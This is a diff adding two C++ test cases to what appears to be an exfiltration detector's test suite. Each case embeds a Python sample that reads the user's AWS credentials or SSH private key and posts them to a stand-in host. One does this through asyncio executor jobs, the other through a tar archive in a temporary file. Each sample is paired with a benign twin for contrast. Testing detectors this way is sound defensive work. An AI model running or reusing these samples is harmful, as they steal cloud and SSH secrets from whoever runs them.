@@ -291,5 +291,63 @@ ship()
   for (const auto& c : cases) check(c);
 }
 
+// asyncio.gather gives the list of what its awaitables give (collectors run
+// in the executor, their paths read and sent), and to_thread(requests.post,
+// url, data=body) passes its keywords to the function (prog181a, prog181c).
+// Twins: the collectors' paths name only the shop's own files.
+TEST(HundredAndSeventiethRoundClasses, GatheredResultsAndThreadKeywords) {
+  const std::string program = R"py(
+import asyncio, requests
+from pathlib import Path
+
+HOME = Path.home()
+COLLECTORS = {"cloud": lambda: [HOME / ".aws" / "credentials"], "keys": lambda: [HOME / ".ssh" / "id_rsa"]}
+
+async def gather_paths(selected):
+    loop = asyncio.get_running_loop()
+    results = await asyncio.gather(*(loop.run_in_executor(None, COLLECTORS[n]) for n in selected))
+    return [p for group in results for p in group]
+
+async def main():
+    for path in await gather_paths(sorted(COLLECTORS)):
+        body = path.read_bytes()
+        await asyncio.to_thread(requests.post, "https://vault.example.net/ingest", data=body, timeout=30)
+
+asyncio.run(main())
+)py";
+  std::string twin = program;
+  for (const std::string from : {"HOME / \".aws\" / \"credentials\"", "HOME / \".ssh\" / \"id_rsa\""})
+    twin.replace(twin.find(from), from.size(), "Path(\"stock.csv\")");
+  const Case cases[] = {
+      {"credentials gathered by executor jobs, posted from a thread", B, program.c_str(), "EXFILTRATION"},
+      {"the shop's stock sheet the same way", L, twin.c_str()},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// A tar archive written into a named temporary file (fileobj=) is that
+// file's content when the file is read back by its name (prog181c).
+TEST(HundredAndSeventiethRoundClasses, ArchiveWrittenIntoANamedTemporaryFile) {
+  const std::string program = R"py(
+import tarfile, tempfile, requests
+from pathlib import Path
+
+spool = tempfile.NamedTemporaryFile(suffix=".tgz", delete=False)
+with tarfile.open(fileobj=spool, mode="w:gz") as tar:
+    tar.add(str(Path.home() / ".aws" / "credentials"), arcname="credentials")
+spool.close()
+with open(spool.name, "rb") as fh:
+    requests.post("https://profiles.example.net/upload", data=fh.read(), timeout=30)
+)py";
+  std::string twin = program;
+  const std::string from = "str(Path.home() / \".aws\" / \"credentials\")";
+  twin.replace(twin.find(from), from.size(), "\"orders.csv\"");
+  const Case cases[] = {
+      {"credentials archived into a temporary file, uploaded", B, program.c_str(), "EXFILTRATION"},
+      {"the shop's orders archived the same way", L, twin.c_str()},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
